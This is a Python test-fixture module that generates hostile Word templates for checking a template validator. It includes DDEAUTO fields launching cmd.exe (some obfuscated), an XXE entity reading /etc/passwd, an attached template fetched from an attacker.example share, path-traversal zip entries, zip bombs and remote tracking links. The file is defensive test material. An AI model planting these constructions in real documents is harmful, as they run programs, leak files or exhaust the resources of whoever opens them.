"""Generators for hostile .docx templates (built on the fly: some are zip bombs).

Each generator returns template bytes; ``TEMPLATES`` maps a name to the generator and
the fragment of the ``TemplateError`` that must refuse it.
"""

from __future__ import annotations

import io
import warnings
import zipfile
from collections.abc import Callable

import docx

RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


BLOCKS = ("caption", "good_cause", "sealing_acknowledgment", "challenges", "filing_under_seal")


def plain(text: str = "{{ case.number }}") -> bytes:
    """A minimal, harmless template: one paragraph of ``text`` and the mandatory parts."""
    document = docx.Document()
    document.add_paragraph(text)
    for block in BLOCKS:
        document.add_paragraph(f"{{{{p blocks.{block} }}}}")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def rezip(
    data: bytes,
    add: dict[str, bytes] | None = None,
    edit: dict[str, Callable[[bytes], bytes]] | None = None,
    *,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """Copy a package, editing some parts and appending others (names unchecked)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as target:
        for info in source.infolist():
            body = source.read(info.filename)
            if edit and info.filename in edit:
                body = edit[info.filename](body)
            target.writestr(info.filename, body)
        for name, body in (add or {}).items():
            target.writestr(zipfile.ZipInfo(name), body, compress_type=compression)
    return out.getvalue()


def _with_rel(rel_type: str, target: str, part: str = "word/_rels/document.xml.rels") -> bytes:
    rel = (
        f'<Relationship Id="rIdHostile" Type="{REL}/{rel_type}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    ).encode()
    return rezip(plain(), edit={part: lambda b: b.replace(b"</Relationships>", rel)})


def _content_type(extra: str) -> Callable[[bytes], bytes]:
    return lambda b: b.replace(b"</Types>", extra.encode() + b"</Types>")


def macro_project() -> bytes:
    vba = (
        '<Override PartName="/word/vbaProject.bin" '
        'ContentType="application/vnd.ms-office.vbaProject"/>'
    )
    return rezip(
        plain(),
        add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really VBA"},
        edit={"[Content_Types].xml": _content_type(vba)},
    )


def macro_enabled_type() -> bytes:
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    docm = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    return rezip(plain(), edit={"[Content_Types].xml": lambda b: b.replace(main, docm)})


def ole_object() -> bytes:
    return rezip(plain(), add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})


def ole_relationship() -> bytes:
    rel = (
        f'<Relationship Id="rIdOle" Type="{REL}/oleObject" Target="media/thing.bin"/>'
        "</Relationships>"
    ).encode()
    return rezip(
        plain(),
        add={"word/media/thing.bin": b"x"},
        edit={"word/_rels/document.xml.rels": lambda b: b.replace(b"</Relationships>", rel)},
    )


def remote_image() -> bytes:
    return _with_rel("image", "http://tracker.example/pixel.png")


def remote_link() -> bytes:
    return _with_rel("hyperlink", "https://phish.example/login")


def attached_template() -> bytes:
    settings_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS_NS}">'
        f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
        'Target="file://attacker.example/share/evil.dotm" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    return rezip(plain(), add={"word/_rels/settings.xml.rels": settings_rels})


def doctype_entities() -> bytes:
    """An XXE / billion-laughs prologue in the main document part."""
    dtd = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE w:document ['
        b'<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    )

    def add_dtd(body: bytes) -> bytes:
        return dtd + body[body.index(b"?>") + 2 :].lstrip()

    return rezip(plain(), edit={"word/document.xml": add_dtd})


def _in_body(xml: bytes) -> Callable[[bytes], bytes]:
    return lambda body: body.replace(b"</w:body>", xml + b"</w:body>")


def dde_field() -> bytes:
    """The classic DDEAUTO attack, its code split over runs as Word itself often does."""
    runs = b"".join(
        b'<w:r><w:instrText xml:space="preserve">' + piece + b"</w:instrText></w:r>"
        for piece in (b" DD", b'EAUTO c:\\windows\\system32\\cmd.exe "/k calc" ')
    )
    field = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return rezip(plain(), edit={"word/document.xml": _in_body(field)})


def includepicture_field() -> bytes:
    field = (
        b"<w:p><w:fldSimple w:instr='INCLUDEPICTURE \"http://tracker.example/p.png\" \\d'>"
        b"<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
    )
    return rezip(plain(), edit={"word/document.xml": _in_body(field)})


def parent_path() -> bytes:
    return rezip(plain(), add={"../../evil.txt": b"x"})


def absolute_path() -> bytes:
    return rezip(plain(), add={"/etc/cron.d/evil": b"x"})


def backslash_path() -> bytes:
    return rezip(plain(), add={"word\\..\\..\\evil.xml": b"x"})


def drive_path() -> bytes:
    return rezip(plain(), add={"C:/Windows/evil.xml": b"x"})


def ratio_bomb() -> bytes:
    """One part of 20 MB of zeros that deflates to about 20 kB."""
    return rezip(plain(), add={"word/media/bomb.xml": bytes(20_000_000)})


def size_bomb() -> bytes:
    """51 stored (uncompressed) parts of 1 MB: no ratio to catch, but 51 MB in all."""
    parts = {f"word/media/pad{i}.bin": b"\x01" * 1_000_000 for i in range(51)}
    return rezip(plain(), add=parts, compression=zipfile.ZIP_STORED)


def many_entries() -> bytes:
    return rezip(plain(), add={f"customXml/hostile{i}.xml": b"<a/>" for i in range(1_200)})


def duplicate_entry() -> bytes:
    """Two ``word/document.xml`` entries: zip readers disagree on which one counts."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        return rezip(plain(), add={"word/document.xml": plain_document("{{ other }}")})


def plain_document(text: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(plain(text))).read("word/document.xml")


def encrypted_entry() -> bytes:
    data = bytearray(rezip(plain(), add={"word/secret.xml": b"<a/>"}))
    # Set the "encrypted" bit in the central directory record of the last entry.
    at = data.rfind(b"PK\x01\x02")
    data[at + 8] |= 0x01
    return bytes(data)


def not_a_zip() -> bytes:
    return b"<html>this is not a Word document</html>"


def truncated_zip() -> bytes:
    return plain()[:2000]


TEMPLATES: dict[str, tuple[Callable[[], bytes], str]] = {
    "macro_project": (macro_project, "macro project (word/vbaProject.bin)"),
    "macro_enabled_type": (macro_enabled_type, "macro or ActiveX content"),
    "ole_object": (ole_object, "embedded object (word/embeddings/oleObject1.bin)"),
    "ole_relationship": (ole_relationship, "links an embedded object or macro"),
    "remote_image": (remote_image, "external relationship to 'http://tracker.example/pixel.png'"),
    "remote_link": (remote_link, "external relationship to 'https://phish.example/login'"),
    "attached_template": (attached_template, "external relationship to 'file://attacker"),
    "doctype_entities": (doctype_entities, "word/document.xml declares a DTD"),
    "dde_field": (dde_field, "word/document.xml has a field DDEAUTO, which runs a program"),
    "includepicture_field": (includepicture_field, "word/document.xml has a field INCLUDEPICTURE"),
    "parent_path": (parent_path, "'../../evil.txt' has an absolute or parent path"),
    "absolute_path": (absolute_path, "'/etc/cron.d/evil' has an absolute or parent path"),
    "backslash_path": (backslash_path, "has an absolute or parent path"),
    "drive_path": (drive_path, "'C:/Windows/evil.xml' has an absolute or parent path"),
    "ratio_bomb": (ratio_bomb, "limit 100 to 1; zip bomb?"),
    "size_bomb": (size_bomb, "decompresses to more than 50,000,000 bytes"),
    "many_entries": (many_entries, "zip entries (limit 1,000)"),
    "duplicate_entry": (duplicate_entry, "zip entry 'word/document.xml' appears twice"),
    "encrypted_entry": (encrypted_entry, "'word/secret.xml' is encrypted"),
    "not_a_zip": (not_a_zip, "not a .docx (zip) package"),
    "truncated_zip": (truncated_zip, "not a .docx (zip) package"),
}


# ---- One content policy for every part (issue 15, item 3) ------------------------------
# Before issue 15 each of these rendered: the checks read only word/*.xml, by name,
# as UTF-8, one paragraph's field code at a time, and knew nothing of chunks or fonts.

CT = "http://schemas.openxmlformats.org/package/2006/content-types"
HEADER_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"


def _field(*codes: str, tag: str = "instrText") -> bytes:
    """A complex field whose code is given in pieces (one run each); a piece "{" opens
    a nested field and "}" closes it."""
    runs = []
    for code in codes:
        if code == "{":
            runs.append('<w:r><w:fldChar w:fldCharType="begin"/></w:r>')
        elif code == "}":
            runs.append('<w:r><w:fldChar w:fldCharType="end"/></w:r>')
        else:
            runs.append(f'<w:r><w:{tag} xml:space="preserve">{code}</w:{tag}></w:r>')
    return ("<w:p>" + "".join(runs) + "</w:p>").encode()


def _add_part(data: bytes, name: str, body: bytes, rel_type: str, content: str = "") -> bytes:
    rel = (
        f'<Relationship Id="rIdExtra" Type="{REL}/{rel_type}" Target="{name.split("/", 1)[1]}"/>'
        "</Relationships>"
    ).encode()
    edits: dict[str, Callable[[bytes], bytes]] = {
        "word/_rels/document.xml.rels": lambda b: b.replace(b"</Relationships>", rel)
    }
    if content:
        edits["[Content_Types].xml"] = _content_type(content)
    return rezip(data, add={name: body}, edit=edits)


def dde_in_dat_header() -> bytes:
    """A header part named header9.dat (typed by a Default for .dat) with DDEAUTO."""
    header = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:hdr xmlns:w="{W_NS}">'.encode()
        + _field("{", ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ', "}")
        + b"</w:hdr>"
    )
    return _add_part(
        plain(), "word/header9.dat", header, "header",
        f'<Default Extension="dat" ContentType="{HEADER_TYPE}"/>',
    )  # fmt: skip


def _alt_chunk(name: str, body: bytes, content: str) -> bytes:
    data = _add_part(plain(), name, body, "aFChunk", content)
    return rezip(data, edit={"word/document.xml": _in_body(b'<w:altChunk r:id="rIdExtra"/>')})


def altchunk_rtf() -> bytes:
    rtf = b"{\\rtf1 {\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\cmd.exe}}}"
    return _alt_chunk(
        "word/chunk.rtf", rtf, '<Default Extension="rtf" ContentType="application/rtf"/>'
    )


def altchunk_html() -> bytes:
    html = b"<html><body><h2>GOOD CAUSE STATEMENT</h2><p>Another one.</p></body></html>"
    return _alt_chunk("word/chunk.htm", html, '<Default Extension="htm" ContentType="text/html"/>')


def altchunk_disguised() -> bytes:
    """An HTML chunk typed as plain XML: refused by its relationship and element."""
    html = b"<html><body><p>GOOD CAUSE STATEMENT</p></body></html>"
    return _alt_chunk("word/chunk.xml", html, "")


def embedded_object_element() -> bytes:
    obj = b'<w:p><w:r><w:object w:dxaOrig="100" w:dyaOrig="100"/></w:r></w:p>'
    return rezip(plain(), edit={"word/document.xml": _in_body(obj)})


def vml_image_by_url() -> bytes:
    pict = (
        b'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
        b'style="width:1pt;height:1pt"><v:imagedata src="http://tracker.example/p.png"/>'
        b"</v:shape></w:pict></w:r></w:p>"
    )
    return rezip(plain(), edit={"word/document.xml": _in_body(pict)})


def includepicture_nested() -> bytes:
    """INCLUDEPICTURE spelt through a nested QUOTE field."""
    field = _field(
        "{", "{", ' QUOTE "INCLUDE" ', "}", 'PICTURE "http://tracker.example/p.png" \\d ', "}"
    )
    return rezip(plain(), edit={"word/document.xml": _in_body(field)})


def dde_by_character_codes() -> bytes:
    """DDEAUTO spelt as the character codes of a nested QUOTE (a known obfuscation)."""
    field = _field("{", "{", " QUOTE 68 68 69 65 85 84 79 ", "}", " c:\\\\windows\\\\cmd.exe ", "}")
    return rezip(plain(), edit={"word/document.xml": _in_body(field)})


def dde_split_over_paragraphs() -> bytes:
    begin = _field("{", " DD")
    rest = _field("EAUTO c:\\\\windows\\\\cmd.exe ", "}")
    return rezip(plain(), edit={"word/document.xml": _in_body(begin + rest)})


def dde_in_tracked_deletion() -> bytes:
    field = _field("{", " DDEAUTO calc ", "}", tag="delInstrText")
    return rezip(plain(), edit={"word/document.xml": _in_body(field)})


def name_built_by_nested_field() -> bytes:
    field = _field("{", "{", " REF bookmark ", "}", ' "c:\\\\x.xls" ', "}")
    return rezip(plain(), edit={"word/document.xml": _in_body(field)})


def _utf16_dtd(body: bytes, *, bom: bool) -> bytes:
    text = body.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    dtd = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>'
    text = text[: text.index("?>") + 2] + dtd + text[text.index("?>") + 2 :]
    return (b"\xff\xfe" if bom else b"") + text.encode("utf-16-le")


def dtd_in_utf16_document() -> bytes:
    return rezip(plain(), edit={"word/document.xml": lambda b: _utf16_dtd(b, bom=True)})


def dtd_in_utf16_custom_xml() -> bytes:
    item = _utf16_dtd(b'<?xml version="1.0" encoding="UTF-8"?><data>x</data>', bom=False)
    return rezip(plain(), add={"customXml/item9.xml": item})


def dtd_in_dat_part() -> bytes:
    return rezip(
        plain(),
        add={"word/settings2.dat": b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://x/"><a/>'},
    )


def embedded_font() -> bytes:
    def embed(body: bytes) -> bytes:
        return body.replace(b"</w:font>", b'<w:embedRegular r:id="rId9"/></w:font>', 1)

    return rezip(plain(), edit={"word/fontTable.xml": embed})


def obfuscated_font_part() -> bytes:
    return rezip(
        plain(),
        add={"word/fonts/font1.odttf": b"\x00\x01\x00\x00 not a real font"},
        edit={"[Content_Types].xml": _content_type(
            '<Default Extension="odttf" '
            'ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/>'
        )},
    )  # fmt: skip


def mail_merge_source() -> bytes:
    merge = (
        b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="odbc"/>'
        b'<w:connectString w:val="DSN=attacker"/></w:mailMerge>'
    )
    return rezip(
        plain(),
        edit={"word/settings.xml": lambda b: b.replace(b"</w:settings>", merge + b"</w:settings>")},
    )


def unknown_relationship() -> bytes:
    return _add_part(plain(), "word/thing.xml", b"<a/>", "somethingNew")


def binary_part() -> bytes:
    return rezip(plain(), add={"word/media/tool.bin": b"MZ\x90\x00 an executable"})


def vml_href_by_url() -> bytes:
    pict = (
        b'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
        b'xmlns:o="urn:schemas-microsoft-com:office:office" o:href="file://attacker/share/x.png" '
        b'style="width:1pt;height:1pt"/></w:pict></w:r></w:p>'
    )
    return rezip(plain(), edit={"word/document.xml": _in_body(pict)})


TEMPLATES.update(
    {
        "dde_in_dat_header": (dde_in_dat_header, "word/header9.dat has a field DDEAUTO"),
        "altchunk_rtf": (altchunk_rtf, "(application/rtf)"),
        "altchunk_html": (altchunk_html, "(text/html)"),
        "altchunk_disguised": (altchunk_disguised, "links an embedded RTF, HTML or text chunk"),
        "embedded_object_element": (embedded_object_element, "has an embedded object (w:object)"),
        "vml_image_by_url": (vml_image_by_url, "points outside the document (src='http://"),
        "vml_href_by_url": (vml_href_by_url, "points outside the document (href='file://"),
        "includepicture_nested": (includepicture_nested, "has a field INCLUDEPICTURE"),
        "dde_by_character_codes": (dde_by_character_codes, "has a field DDEAUTO"),
        "dde_split_over_paragraphs": (dde_split_over_paragraphs, "has a field DDEAUTO"),
        "dde_in_tracked_deletion": (dde_in_tracked_deletion, "has a field DDEAUTO"),
        "name_built_by_nested_field": (
            name_built_by_nested_field,
            "name is built by a nested field",
        ),
        "dtd_in_utf16_document": (dtd_in_utf16_document, "word/document.xml declares a DTD"),
        "dtd_in_utf16_custom_xml": (dtd_in_utf16_custom_xml, "customXml/item9.xml declares a DTD"),
        "dtd_in_dat_part": (dtd_in_dat_part, "word/settings2.dat declares a DTD"),
        "embedded_font": (embedded_font, "has an embedded font"),
        "obfuscated_font_part": (obfuscated_font_part, "obfuscatedFont"),
        "mail_merge_source": (mail_merge_source, "a mail-merge data source"),
        "unknown_relationship": (
            unknown_relationship,
            "a relationship of a kind pogen does not know",
        ),
        "binary_part": (binary_part, "word/media/tool.bin is neither XML nor a picture"),
    }
)  # fmt: skip
